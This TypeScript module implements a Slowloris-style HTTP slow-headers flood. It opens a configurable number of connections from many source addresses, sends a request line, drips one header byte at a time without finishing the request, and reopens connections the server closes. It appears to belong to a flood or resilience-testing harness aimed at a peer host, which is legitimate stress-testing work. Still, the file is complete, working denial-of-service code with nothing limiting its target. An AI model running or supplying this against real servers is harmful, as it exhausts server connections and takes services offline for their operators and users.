/**
 * HTTP slow headers against `--http`: `connections` connections from many source addresses,
 * each sending a request line and then one header byte every `dripMs`, never the blank line
 * that ends the headers; re-opened after ~reopenMs when the server closes them.
 */
import type { FloodContext, FloodResult } from './flood-context.ts'
import { SourcePool } from './sources.ts'
import { runSlots, slotCounts, type SlotConn } from './tcp-slots.ts'

const HEADER = Buffer.from('X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n', 'latin1')

export async function run (ctx: FloodContext): Promise<FloodResult> {
  if (!ctx.httpPort) throw new Error('http-slow needs the peer\'s HTTP port')
  const sources = new SourcePool(ctx.params.sources, ctx.params.perSubnet)
  const timers = new Map<SlotConn, ReturnType<typeof setTimeout>>()
  let bytes = 0
  const stats = await runSlots(ctx, { slots: ctx.params.connections, reopenMs: ctx.params.reopenMs, sources, port: ctx.httpPort }, {
    connected (conn) {
      const start = Buffer.from(`GET /health HTTP/1.1\r\nHost: ${ctx.host}\r\n`, 'latin1')
      conn.socket.write(start)
      bytes += start.length
      let at = 0
      const drip = (): void => {
        if (conn.socket.destroyed) return
        conn.socket.write(HEADER.subarray(at % HEADER.length, (at % HEADER.length) + 1))
        at += 1
        bytes += 1
        timers.set(conn, setTimeout(drip, ctx.params.dripMs))
      }
      timers.set(conn, setTimeout(drip, ctx.rand() * ctx.params.dripMs))
    },
    closed (conn) {
      clearTimeout(timers.get(conn))
      timers.delete(conn)
    }
  })
  const { counts, summary } = slotCounts(stats)
  return { counts: { ...counts, bytes }, units: stats.opened, unit: 'conns', summary: `${ctx.params.connections} slow-header requests from ${sources.count} addrs: ${summary}` }
}
